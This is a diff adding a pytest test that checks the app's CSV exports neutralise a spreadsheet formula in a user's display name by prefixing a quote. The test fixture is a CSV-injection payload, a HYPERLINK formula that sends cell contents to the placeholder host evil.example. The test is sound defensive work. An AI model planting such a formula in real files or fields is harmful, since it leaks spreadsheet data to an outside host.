@@ -185,6 +185,20 @@ def test_compensation_export(client, story):
     assert "boss" not in by_user  # not on the rota
 
 
+FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&A2,"Alice")'
+
+
+@pytest.mark.parametrize("name", ["load_csv", "compensation_csv"])
+def test_exports_neutralise_a_formula_in_a_display_name(client, story, name):
+    """A spreadsheet must show the name as text, not run it (OWASP: a leading quote)."""
+    story.ann.profile.display_name = FORMULA_NAME
+    story.ann.profile.save(update_fields=["display_name"])
+    rows = csv_rows(get(client, story.boss, name, story.team, PERIOD))
+    ann = next(r for r in rows[1:] if r[1] == "ann")
+    assert ann[0] == "'" + FORMULA_NAME
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)
+
+
 def test_compensation_export_is_for_managers(client, story):
     assert get(client, story.ann, "compensation_csv", story.team, PERIOD).status_code == 403
 
